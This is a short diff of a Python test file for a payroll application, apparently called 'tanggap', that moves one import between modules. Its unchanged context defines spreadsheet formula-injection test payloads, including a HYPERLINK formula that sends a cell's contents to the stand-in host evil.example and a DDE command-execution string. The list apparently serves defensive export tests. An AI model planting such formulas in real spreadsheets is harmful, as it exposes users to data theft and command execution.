@@ -12,8 +12,8 @@ from openpyxl import load_workbook
 from tanggap import commands as c
 from tanggap.bootstrap import Tanggap
 from tanggap.clock import FrozenClock
-from tanggap.display import in_wita
 from tanggap.payroll.service import inert_text
+from tanggap.wita import in_wita
 from tests.web.staff_helpers import response_breach, sign_in
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
